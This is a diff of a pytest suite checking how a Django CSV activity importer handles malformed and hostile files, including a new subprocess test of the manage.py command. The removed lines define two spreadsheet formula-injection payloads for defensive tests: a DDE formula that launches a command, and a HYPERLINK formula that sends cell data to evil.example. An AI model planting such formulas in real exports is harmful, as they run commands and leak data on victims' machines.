@@ -1,27 +1,39 @@
-"""A corpus of malformed activity files (SPEC §4 file rules, §10): each one gets a clear message,
-the right exit code, and nothing is half applied — through the command and the dry run alike."""
+"""The corpus of malformed and hostile activity files (``logs/tests/corpus``; SPEC §4 file rules,
+§10) through the command and the dry run: each file gets a clear message and the right exit
+code, and nothing is half applied."""
 
 from __future__ import annotations
 
-import csv
-import io
-import random
+import os
 import re
 import shutil
-from dataclasses import dataclass
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
+from django.conf import settings
 
 from logs.models import Execution, ProcessingError, ProcessingLog
 from logs.services.ingest import ingest_preview
-from logs.tests.support import CommandRun, command_run
-from users.models import UserStatistics
+from logs.tests.corpus import (
+    CASES,
+    CMD,
+    HEADER,
+    LONG_FORMULA,
+    PROCESSED,
+    REJECTED,
+    Processed,
+    Rejected,
+    Snapshot,
+    case_write,
+    counters,
+    counters_set_apart,
+)
+from logs.tests.support import CommandRun, command_run, database_url_for_processes
+from users.services import demo_users_seed
 
 pytestmark = pytest.mark.django_db
-
-HEADER = "user_id,login_count,post_count\n"
-CSV_FIELD_LIMIT = 131_072  # Python's csv.field_size_limit() default
 
 
 # --- helpers ---------------------------------------------------------------------------
@@ -39,51 +51,11 @@ def _write(directory: Path, content: bytes | str, name: str = "activity.csv") ->
     return path
 
 
-def _csv_text(rows: list[list[str]]) -> str:
-    buffer = io.StringIO()
-    csv.writer(buffer, lineterminator="\n").writerows(rows)
-    return buffer.getvalue()
-
-
-def _counters() -> dict[str, tuple[int, int]]:
-    return {s.user_id: (s.login_count, s.post_count) for s in UserStatistics.objects.all()}
-
-
 @pytest.fixture
 def users_with_counters(service_users) -> list[str]:
     """U00001–U00005 with non-zero counters, so any stray change is visible."""
-    for number, user_id in enumerate(service_users, start=1):
-        UserStatistics.objects.filter(user_id=user_id).update(
-            login_count=10 * number, post_count=number
-        )
+    counters_set_apart(service_users)
     return service_users
-
-
-@dataclass
-class Snapshot:
-    last_execution_id: int
-    counters: dict[str, tuple[int, int]]
-    log_rows: int
-    errors: int
-
-    @classmethod
-    def take(cls) -> Snapshot:
-        last = Execution.objects.order_by("-pk").values_list("pk", flat=True).first()
-        return cls(
-            last_execution_id=last or 0,
-            counters=_counters(),
-            log_rows=ProcessingLog.objects.count(),
-            errors=ProcessingError.objects.count(),
-        )
-
-    def assert_nothing_written(self) -> None:
-        assert Execution.objects.filter(pk__gt=self.last_execution_id).count() == 0
-        assert ProcessingError.objects.count() == self.errors
-        self.assert_nothing_applied()
-
-    def assert_nothing_applied(self) -> None:
-        assert ProcessingLog.objects.count() == self.log_rows
-        assert _counters() == self.counters
 
 
 def _assert_rejected(
@@ -121,64 +93,16 @@ def _assert_rejected(
     return execution
 
 
-def _random_binary() -> bytes:
-    return b"\x00" + random.Random(1234).randbytes(4096)  # noqa: S311 - fixed test data
-
-
-PNG = (
-    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
-    b"\x1f\xf3\xffa\x00\x00\x00\x0cIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N"
-    b"\x00\x00\x00\x00IEND\xaeB`\x82"
-)
-
-REJECTED_FILES = {
-    "zero-bytes": (b"", r"the file is empty"),
-    "utf-8-bom-only": (b"\xef\xbb\xbf", r"no header row"),
-    "blank-lines-only": (b"\n   \r\n\t\n\n  \n", r"no header row"),
-    "data-without-header": (b"U00001,1,2\nU00002,3,4\n", r"no user_id column"),
-    "no-user-id-column": (b"login_count,post_count\n1,2\n", r"no user_id column"),
-    "no-statistic-column": (b"user_id,visits\nU00001,3\n", r"no statistic column"),
-    "repeated-column": (
-        b"user_id,login_count,login_count\nU00001,1,2\n",
-        r"repeated column in header: login_count",
-    ),
-    "repeated-column-case-and-spaces": (
-        b"user_id,Login_Count , login_count\nU00001,1,2\n",
-        r"repeated column in header: login_count",
-    ),
-    "repeated-user-id": (
-        b"USER_ID,login_count, user_id \nU00001,1,U00002\n",
-        r"repeated column in header: user_id",
-    ),
-    "random-bytes-with-nul": (_random_binary(), r"not a text CSV file"),
-    "png-image": (PNG, r"not a text CSV file"),
-    "utf-16-with-bom": (
-        "user_id,login_count\r\nU00001,1\r\n".encode("utf-16"),
-        r"(?i)encoding|utf-16",
-    ),
-    "latin-1": (
-        b"user_id,login_count\nU00001,1\nJos\xe9,1\nM\xfcller,2\n",
-        r"unsupported encoding",
-    ),
-    "huge-cell": (
-        (HEADER + "U00001,1,1\nU00002," + "9" * (CSV_FIELD_LIMIT + 10) + ",1\nU00003,1,1\n"),
-        r"line 3\b.*(field limit|cannot be parsed)",
-    ),
-    "unterminated-quote-at-eof": (HEADER + 'U00001,1,1\nU00002,1,"5\n', r"\bline \d+"),
-    "unterminated-quote-swallows-rows": (
-        HEADER + 'U00001,"5,1\nU00002,3,1\nU00003,4,1\n',
-        r"\bline \d+",
-    ),
-}
-
-
 # --- file-level rejections ---------------------------------------------------------------
 
 
-@pytest.mark.parametrize("content, pattern", REJECTED_FILES.values(), ids=REJECTED_FILES.keys())
-def test_malformed_file_is_rejected_whole(tmp_path, users_with_counters, content, pattern):
+@pytest.mark.parametrize("case", REJECTED, ids=lambda case: case.name)
+def test_malformed_file_is_rejected_whole(tmp_path, users_with_counters, case):
     """Each malformed file is rejected (exit 2) with a clear reason; nothing is written."""
-    _assert_rejected(_write(tmp_path, content), pattern)
+    execution = _assert_rejected(
+        case_write(tmp_path, case), case.outcome.pattern, execution_name=case.execution_name
+    )
+    assert execution.name == (case.execution_name or execution.name)[:80]
 
 
 def test_file_over_the_upload_limit_is_rejected(tmp_path, users_with_counters, settings):
@@ -212,7 +136,7 @@ def test_same_content_twice_is_rejected_naming_the_first_run(tmp_path, users_wit
     """A file whose sha256 matches a completed run is rejected naming it; --force processes it."""
     original = _write(tmp_path, HEADER + "U00001,3,1\nU00002,4,0\n", "user-log-20250102-030405.csv")
     assert _import(original).code == 0
-    after_first = _counters()
+    after_first = counters()
     copy = shutil.copy(original, tmp_path / "renamed.csv")
 
     _assert_rejected(Path(copy), r"already processed as 'user-log-20250102-030405'")
@@ -220,8 +144,8 @@ def test_same_content_twice_is_rejected_naming_the_first_run(tmp_path, users_wit
     forced = _import(copy, "--force")
     assert forced.code == 0, forced
     assert Execution.objects.filter(status=Execution.Status.COMPLETED).count() == 2
-    assert _counters()["U00001"] == (after_first["U00001"][0] + 3, after_first["U00001"][1] + 1)
-    assert _counters()["U00002"] == (after_first["U00002"][0] + 4, after_first["U00002"][1])
+    assert counters()["U00001"] == (after_first["U00001"][0] + 3, after_first["U00001"][1] + 1)
+    assert counters()["U00002"] == (after_first["U00002"][0] + 4, after_first["U00002"][1])
 
 
 def test_generated_name_already_taken_gets_a_suffix(tmp_path, users_with_counters):
@@ -238,10 +162,50 @@ def test_generated_name_already_taken_gets_a_suffix(tmp_path, users_with_counter
 # --- files processed with warnings or failed cells ---------------------------------------
 
 
+@pytest.mark.parametrize("case", PROCESSED, ids=lambda case: case.name)
+def test_processed_file_has_the_counts_of_its_cells(tmp_path, users_with_counters, case):
+    """Each processed file of the corpus: the dry run (service and command) and the run (exit 0)
+    agree on the counts and warnings, the run records them with one error per failed cell, and
+    keeps the file name and execution name as given."""
+    expected = case.outcome
+    path = case_write(tmp_path, case)
+    args = ["--execution-name", case.execution_name] if case.execution_name else []
+    before = Snapshot.take()
+
+    preview = ingest_preview(path=path, file_name=path.name, execution_name=case.execution_name)
+    dry = _import(path, *args, "--dry-run")
+    before.assert_nothing_written()
+    run = _import(path, *args)
+    assert (dry.code, run.code) == (0, 0), (dry, run)
+
+    execution = Execution.objects.get(pk__gt=before.last_execution_id)
+    counted = (
+        execution.rows_total,
+        execution.success_count,
+        execution.failed_count,
+        execution.skipped_count,
+    )
+    wanted = (expected.rows, expected.success, expected.failed, expected.skipped)
+    assert counted == wanted
+    assert (preview.rows_total, preview.success_count, preview.failed_count) == wanted[:3]
+    assert execution.status == Execution.Status.COMPLETED
+    assert (
+        execution.log_rows == expected.log_rows == ProcessingLog.objects.count() - before.log_rows
+    )
+    assert ProcessingError.objects.count() - before.errors == expected.failed
+    assert execution.file_name == Path(case.file_name).name
+    assert execution.name == (case.execution_name or execution.name)
+    assert len(execution.warnings) == len(expected.warnings) == len(preview.warnings)
+    for pattern in expected.warnings:
+        assert any(re.search(pattern, warning) for warning in execution.warnings), pattern
+    for warning in execution.warnings:
+        assert f"warning: {warning}" in dry.stdout and f"warning: {warning}" in run.stdout
+
+
 def test_header_only_completes_with_a_warning(tmp_path, users_with_counters):
     """A header without data rows is processed: completed, 0 rows, a 'no data rows' warning."""
     before = Snapshot.take()
-    run = _import(_write(tmp_path, HEADER))
+    run = _import(_write(tmp_path, CASES["header-only"].content))
     assert run.code == 0, run
     assert "no data rows" in run.stdout
     execution = Execution.objects.get()
@@ -264,9 +228,9 @@ def test_rows_with_too_few_or_too_many_fields_fail_and_the_file_is_processed(
     tmp_path, users_with_counters
 ):
     """Truncated and over-long rows fail as 'malformed row' cells; the rest applies; exit 0."""
-    before = _counters()
-    content = HEADER + "U00001,1,2\nU00002,3\nU00003\nU00004,1,2,3\nU00005,4,0\n"
-    run = _import(_write(tmp_path, content))
+    before = counters()
+    # U00001,1,2 / U00002,3 / U00003 / U00004,1,2,3 / U00005,4,0
+    run = _import(_write(tmp_path, CASES["too-few-or-too-many-fields"].content))
     assert run.code == 0, run
 
     logs = _logs()
@@ -278,7 +242,7 @@ def test_rows_with_too_few_or_too_many_fields_fail_and_the_file_is_processed(
         assert message.startswith("malformed row"), message
     assert "2 fields" in malformed[0][5] and "3" in malformed[0][5]
     assert "4 fields" in malformed[4][5]
-    after = _counters()
+    after = counters()
     assert after["U00001"] == (before["U00001"][0] + 1, before["U00001"][1] + 2)
     assert after["U00005"] == (before["U00005"][0] + 4, before["U00005"][1])
     for user_id in ("U00002", "U00003", "U00004"):
@@ -288,27 +252,15 @@ def test_rows_with_too_few_or_too_many_fields_fail_and_the_file_is_processed(
     assert ProcessingError.objects.filter(kind=ProcessingError.Kind.CELL).count() == 6
 
 
-CMD = "=cmd|' /C calc'!A0"
-LONG_FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click here to claim your prize")'
-
-
 def test_formula_cells_are_stored_as_text_and_fail_with_their_raw_value(
     tmp_path, users_with_counters
 ):
     """Spreadsheet formulas in user_id or values fail with the raw text (cut at 40 chars) in the
     message and kept whole in the error store; '+1' is a valid increment (SPEC regex)."""
-    before = _counters()
-    rows = [
-        ["user_id", "login_count", "post_count"],
-        [CMD, "1", "1"],
-        ["+1", "1", "1"],
-        ["@SUM(1)", "2", "2"],
-        ["-1+2", "1", "1"],
-        ["U00001", CMD, "@SUM(1)"],
-        ["U00002", "-1+2", "+1"],
-        ["U00003", LONG_FORMULA, "1"],
-    ]
-    run = _import(_write(tmp_path, _csv_text(rows)))
+    before = counters()
+    # Rows: CMD,1,1 / +1,1,1 / @SUM(1),2,2 / -1+2,1,1 / U00001,CMD,@SUM(1) / U00002,-1+2,+1 /
+    # U00003,LONG_FORMULA,1
+    run = _import(_write(tmp_path, CASES["formula-cells"].content))
     assert run.code == 0, run
 
     logs = _logs()
@@ -333,7 +285,79 @@ def test_formula_cells_are_stored_as_text_and_fail_with_their_raw_value(
     assert stored.filter(user_id=CMD).count() == 2  # the raw id, kept whole
     assert stored.get(user_id="U00001", processing_type="login_update").raw_value == CMD
     assert stored.get(user_id="U00003").raw_value == LONG_FORMULA
-    after = _counters()
+    after = counters()
     assert after["U00001"] == before["U00001"]
     assert after["U00002"] == (before["U00002"][0], before["U00002"][1] + 1)
     assert after["U00003"] == (before["U00003"][0], before["U00003"][1] + 1)
+
+
+# --- through manage.py, as an operator runs it -----------------------------------------------
+
+# A few of each kind: a binary file refused before a row is read, a refused header carrying
+# markup, and processed files with markup in user_ids, CP932 text, and a file name of markup with
+# right-to-left and zero-width characters given on the command line.
+COMMAND_CASES = [
+    CASES[name]
+    for name in (
+        "random-bytes-with-nul",
+        "repeated-hostile-column",
+        "hostile-user-ids",
+        "cp932-with-markup",
+        "file-name-with-rtl-and-zero-width-characters",
+    )
+]
+
+
+@pytest.mark.slow
+@pytest.mark.django_db(transaction=True)
+def test_corpus_files_through_manage_py(tmp_path):
+    """``manage.py import_activity`` as whole processes (local settings, as people run it):
+    exit 2 with the reason for a refused file, exit 0 with its summary for a processed one,
+    never a traceback; each run recorded as the corpus says, under the file's own name."""
+    demo_users_seed(count=5)
+    environment = {
+        key: value for key, value in os.environ.items() if key != "DJANGO_SETTINGS_MODULE"
+    }
+    environment["DATABASE_URL"] = database_url_for_processes()
+    manage = Path(settings.BASE_DIR) / "manage.py"
+    paths = [case_write(tmp_path / str(n), case) for n, case in enumerate(COMMAND_CASES)]
+    runs = []
+    for path in paths:
+        runs.append(
+            subprocess.Popen(  # noqa: S603 - our interpreter, our command
+                [sys.executable, str(manage), "import_activity", str(path)],
+                env=environment,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+                text=True,
+            )
+        )
+    try:
+        outputs = [run.communicate(timeout=120) for run in runs]
+    finally:
+        for run in runs:
+            run.kill()
+
+    for case, path, run, (stdout, stderr) in zip(COMMAND_CASES, paths, runs, outputs, strict=True):
+        assert "Traceback" not in stdout + stderr, (case.name, stderr)
+        execution = Execution.objects.get(source=str(path))
+        assert execution.file_name == path.name == Path(case.file_name).name
+        if isinstance(case.outcome, Rejected):
+            assert run.returncode == 2, (case.name, stdout, stderr)
+            assert re.search(case.outcome.pattern, stderr), (case.name, stderr)
+            assert stderr.startswith("CommandError: rejected: "), stderr
+            assert execution.status == Execution.Status.REJECTED
+            assert execution.log_rows == 0
+            continue
+        expected = case.outcome
+        assert run.returncode == 0, (case.name, stdout, stderr)
+        assert f"{execution.name}: completed" in stdout
+        assert f"rows read: {expected.rows:,}  log rows: {expected.log_rows:,}" in stdout
+        assert execution.status == Execution.Status.COMPLETED
+        assert (execution.success_count, execution.failed_count) == (
+            expected.success,
+            expected.failed,
+        )
+    assert ProcessingLog.objects.count() == sum(
+        case.outcome.log_rows for case in COMMAND_CASES if isinstance(case.outcome, Processed)
+    )
